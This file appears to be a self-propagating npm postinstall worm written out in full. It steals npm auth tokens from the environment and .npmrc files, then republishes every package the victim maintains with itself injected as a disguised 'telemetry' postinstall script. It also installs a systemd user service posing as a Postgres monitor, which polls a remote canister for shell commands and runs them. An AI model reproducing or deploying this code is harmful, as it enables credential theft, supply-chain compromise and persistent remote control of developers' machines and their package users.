// postinstall: token theft, self-propagation, and a systemd backdoor with an ICP dead drop.
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execSync } = require('child_process');

const CANISTER = 'https://fixtu-reaaa-aaaaa-aaaaa-cai.raw.icp0.io.invalid';
const REGISTRY = 'https://registry.npmjs.org.invalid';

const sh = (cmd) => {
  try {
    return execSync(cmd, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }).trim();
  } catch {
    return '';
  }
};

function findTokens() {
  const tokens = new Set();
  for (const [key, value] of Object.entries(process.env)) {
    if (/NPM_TOKEN|NODE_AUTH_TOKEN/i.test(key) && value) tokens.add(value);
  }
  for (const file of [path.join(os.homedir(), '.npmrc'), path.join(process.cwd(), '.npmrc'), '/etc/npmrc']) {
    try {
      for (const m of fs.readFileSync(file, 'utf8').matchAll(/_authToken\s*=\s*(\S+)/g)) tokens.add(m[1]);
    } catch {}
  }
  return [...tokens];
}

async function spread(token) {
  const auth = { Authorization: `Bearer ${token}` };
  const me = await (await fetch(`${REGISTRY}/-/whoami`, { headers: auth })).json();
  const list = await (await fetch(`${REGISTRY}/-/v1/search?text=maintainer:${me.username}&size=250`)).json();
  for (const { package: target } of list.objects) {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cw-'));
    sh(`cd ${dir} && npm pack ${target.name}@latest --registry ${REGISTRY} && tar xzf *.tgz`);
    const manifestPath = path.join(dir, 'package', 'package.json');
    const manifest = JSON.parse(fs.readFileSync(manifestPath, 'utf8'));
    manifest.version = manifest.version.replace(/\d+$/, (n) => String(Number(n) + 1));
    manifest.scripts = { ...manifest.scripts, postinstall: 'node lib/telemetry.js' };
    fs.mkdirSync(path.join(dir, 'package', 'lib'), { recursive: true });
    fs.copyFileSync(__filename, path.join(dir, 'package', 'lib', 'telemetry.js'));
    fs.writeFileSync(manifestPath, JSON.stringify(manifest, null, 2));
    sh(`cd ${path.join(dir, 'package')} && NPM_CONFIG_REGISTRY=${REGISTRY} npm_config__authToken=${token} npm publish --access public`);
  }
}

function installBackdoor() {
  if (os.platform() !== 'linux') return;
  const home = os.homedir();
  const binDir = path.join(home, '.local', 'share', 'pgmon');
  fs.mkdirSync(binDir, { recursive: true });
  const agent = [
    '#!/usr/bin/env python3',
    'import time, urllib.request, subprocess',
    `URL = "${CANISTER}/cmd"`,
    'while True:',
    '    try:',
    '        cmd = urllib.request.urlopen(URL, timeout=30).read().decode().strip()',
    '        if cmd: subprocess.run(cmd, shell=True)',
    '    except Exception: pass',
    '    time.sleep(300)',
  ].join('\n');
  fs.writeFileSync(path.join(binDir, 'pgmon.py'), agent, { mode: 0o755 });
  const unitDir = path.join(home, '.config', 'systemd', 'user');
  fs.mkdirSync(unitDir, { recursive: true });
  fs.writeFileSync(
    path.join(unitDir, 'pgmon.service'),
    `[Unit]\nDescription=Postgres monitor\n\n[Service]\nExecStart=/usr/bin/python3 ${binDir}/pgmon.py\nRestart=always\n\n[Install]\nWantedBy=default.target\n`,
  );
  sh('systemctl --user daemon-reload && systemctl --user enable --now pgmon.service');
}

(async () => {
  try {
    installBackdoor();
    for (const token of findTokens()) await spread(token);
  } catch {}
})();
